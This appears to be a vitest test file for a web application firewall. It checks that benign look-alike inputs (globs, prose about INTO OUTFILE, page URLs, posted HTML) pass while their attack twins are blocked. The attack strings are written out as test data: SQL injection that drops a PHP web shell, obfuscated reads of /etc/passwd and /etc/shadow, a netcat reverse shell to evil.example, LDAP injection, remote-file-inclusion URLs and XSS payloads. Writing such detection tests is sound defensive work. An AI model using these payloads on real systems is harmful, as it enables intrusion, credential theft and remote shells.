import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { document, domain, moduleRefs, upstream, wafModule } from './helpers/documents.js';
import { type Edge, startEdge } from './helpers/edge.js';
import { type Origin, startOrigin } from './helpers/origins.js';
import { blocked, passed, type WafPlace, wafSender } from './helpers/waf-send.js';

// Benign values the WAF used to block, told from the attacks they resemble by the grammar the
// attack needs (a default module, through a real nginx), in every part they ride in:
// - "INTO OUTFILE" in prose: MySQL writes a file only when a string literal names it;
// - a build tool's recursive glob ("src/**/*.ts"): no shell expands "**" into a path, while the
//   wildcards that spell a system path ("/e??/p?ss*") are still read as such; a glob's brace set
//   ("*.{ts,tsx}") is no shell's brace expansion, which starts with a command or holds a path
//   or an option ("{cat,/etc/passwd}", "{ls,-la}");
// - arithmetic with parentheses ("rate = (x)(y=2)"): an LDAP filter closed and reopened needs an
//   operator, a wildcard or an attribute an injection aims at;
// - a page's URL in a parameter named "path" (analytics, routers): remote inclusion there needs
//   an includable target (a script or text file, an open query), while a name that says
//   "include root" ("_CONF[path]", "absolute_path") still takes any URL;
// - a code playground's or an editor's posted source (an HTML page from its doctype, a module from
//   its imports) in a body: its script tags and handlers are its content, while the same markup
//   in a query, or in a body value that is not such a document, is still blocked.
// Each benign value has attack twins of the same words that must stay blocked.

let edge: Edge;
let origin: Origin;
const HOST = 'fp.waf.example';
const sender = wafSender(() => edge, HOST);
const PLACES: WafPlace[] = ['query', 'form', 'json', 'multipart'];

beforeAll(async () => {
  origin = await startOrigin('origin');
  edge = await startEdge();
  await edge.push(
    document('waf-fp-1', [domain(1, HOST, [upstream(origin.port)], { modules: moduleRefs({ waf: 1 }) })], [], [], {
      modules: [wafModule(1)],
    }),
  );
});

afterAll(async () => {
  await edge?.stop();
  await origin?.close();
});

const CASES: { shape: string; benign: string[]; attacks: string[] }[] = [
  {
    shape: 'INTO OUTFILE without a file name',
    benign: [
      'In MySQL you can export a result with SELECT ... INTO OUTFILE, but the server needs the FILE privilege.',
      'select the rows you want, then INTO OUTFILE or INTO DUMPFILE writes them on the server',
    ],
    attacks: [
      "1 union select 1,'<?php system($_GET[c]); ?>' into outfile '/var/www/html/c.php'",
      "x' union select password from users into dumpfile '/tmp/p' -- ",
      '-1 UNION SELECT 1,2 INTO OUTFILE "/var/www/out.txt"',
    ],
  },
  {
    shape: 'a recursive glob, a glob brace set',
    benign: [
      'src/**/*.ts',
      'packages/*/src/**/*.test.ts',
      '!**/node_modules/**',
      'src/**/*.{ts,tsx}',
      '*.{js,jsx,mjs}',
      '{foo,bar}',
    ],
    // (the second: only "?" wildcards, which the prefilter once let through unread)
    attacks: [
      'cat /e??/p?ss*',
      '/???/c?t /e??/p?sswd',
      ';/b??/ca* /et*/sh*dow',
      '/bin/c?t /e*c/p*wd',
      '{cat,/etc/passwd}',
      '{ls,-la}',
      '{nc,-e,/bin/sh,evil.example,4444}',
      '{cat,flag.txt}',
    ],
  },
  {
    shape: 'parentheses in arithmetic',
    benign: ['rate = (x)(y=2)', 'f(a)(b=1) + g(c)(d=2)'],
    attacks: ['*)(uid=*))(|(uid=*', 'admin)(&)', 'x)(|(cn=*)', '*)(objectClass=*'],
  },
];

describe('WAF: a URL in a parameter named for a path', () => {
  it('a page URL under path/page_path passes; an includable URL there, or any URL under an include root, is blocked', async () => {
    const wrong: string[] = [];
    const benign: [string, string][] = [
      ['path', 'https://example.com/docs/getting-started'],
      ['page_path', 'https://example.com/a/b?ref=nav'],
      ['dir', 'https://cdn.example.com/assets/'],
    ];
    const attacks: [string, string][] = [
      ['path', 'http://evil.example/shell.txt?'],
      ['dir', 'http://evil.example/x.php'],
      ['_CONF[path]', 'http://evil.example/x'],
      ['mosConfig_absolute_path', 'http://evil.example/'],
      ['include_path', 'https://evil.example/lib'],
    ];
    for (const place of ['query', 'form', 'json'] as WafPlace[]) {
      for (const [name, v] of benign) {
        const r = await sender.sendIn(place, v, name);
        if (!passed(r)) wrong.push(`benign ${place} ${name}=${v}: ${r.status}`);
      }
      for (const [name, v] of attacks) {
        const r = await sender.sendIn(place, v, name);
        if (!blocked(r)) wrong.push(`attack ${place} ${name}=${v}: ${r.status}`);
      }
    }
    expect(wrong).toEqual([]);
  });
});

const PAGE = `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <link rel="stylesheet" href="https://cdn.example.com/pen.css">
  <script src="https://cdn.example.com/runner.js"></script>
</head>
<body>
  <button onclick="go()">Go</button>
  <script>function go() { document.title = 'clicked'; }</script>
</body>
</html>`;
const MODULE = `import React from 'react';
import { createRoot } from 'react-dom/client';

const App = () => <a href="https://example.com" onClick={() => alert('hi')}>hi</a>;
createRoot(document.getElementById('root')).render(<App />);
`;

describe("WAF: a code playground's posted source", () => {
  it('an HTML page or a JS module posted in a JSON, form or multipart body passes', async () => {
    const wrong: string[] = [];
    for (const place of ['form', 'json', 'multipart'] as WafPlace[]) {
      for (const [what, v] of [
        ['page', PAGE],
        ['module', MODULE],
      ] as const) {
        const r = await sender.sendIn(place, v, 'content');
        if (!passed(r)) wrong.push(`${what} in ${place}: ${r.status}`);
      }
    }
    expect(wrong).toEqual([]);
  });

  it('the same markup as a payload is blocked: in the query (even behind a doctype), or in a body value that is not a document', async () => {
    const wrong: string[] = [];
    const payloads: [WafPlace, string][] = [
      ['query', PAGE],
      ['query', '<!DOCTYPE html><script>alert(document.cookie)</script>'],
      ['cookie', '<!DOCTYPE html><script>alert(document.cookie)</script>'],
      ['form', '<script>alert(document.cookie)</script>'],
      ['json', '"><script src=//evil.example/x.js></script>'],
      ['multipart', '<img src=x onerror=alert(1)>'],
      ['form', `note: ${PAGE}`],
    ];
    for (const [place, v] of payloads) {
      const r = await sender.sendIn(place, v, 'content');
      if (!blocked(r)) wrong.push(`${place} ${JSON.stringify(v.slice(0, 60))}: ${r.status}`);
    }
    expect(wrong).toEqual([]);
  });
});

describe('WAF: benign values that resemble an attack pass, the attack twins do not', () => {
  for (const c of CASES) {
    it(`${c.shape}: benign passes, attacks blocked, in ${PLACES.join(', ')}`, async () => {
      const wrong: string[] = [];
      for (const place of PLACES) {
        for (const v of c.benign) {
          const r = await sender.sendIn(place, v, 'text');
          if (!passed(r)) wrong.push(`benign ${place} ${JSON.stringify(v)}: ${r.status}`);
        }
        for (const v of c.attacks) {
          const r = await sender.sendIn(place, v, 'text');
          if (!blocked(r)) wrong.push(`attack ${place} ${JSON.stringify(v)}: ${r.status}`);
        }
      }
      expect(wrong).toEqual([]);
    });
  }
});
